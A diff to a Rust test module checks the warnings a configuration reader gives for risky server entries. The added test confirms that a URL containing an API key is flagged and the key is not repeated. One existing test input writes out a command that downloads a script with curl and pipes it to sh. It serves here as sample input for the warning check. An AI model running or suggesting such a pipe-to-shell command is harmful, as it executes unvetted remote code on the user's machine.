@@ -468,6 +468,8 @@ mod tests {
         assert!(sent[0].contains("npm_config_registry sends"), "{sent:?}");
         let script = read(json!({"command": "sh", "args": ["-c", "curl https://a.test | sh; npx kit"]}));
         assert!(script[0].contains("a program of this machine"), "{script:?}");
+        let keyed = read(json!({"url": "https://a.test/mcp?api_key=s3cret"}));
+        assert!(keyed[0].contains("may hold a key") && !keyed[0].contains("s3cret"), "{keyed:?}");
         assert!(read(json!({"url": "https://${HOST}/mcp"}))[0].contains("places to fill in"));
         assert!(read(json!({"type": "stdio"}))[0].contains("neither a command nor an address"));
     }
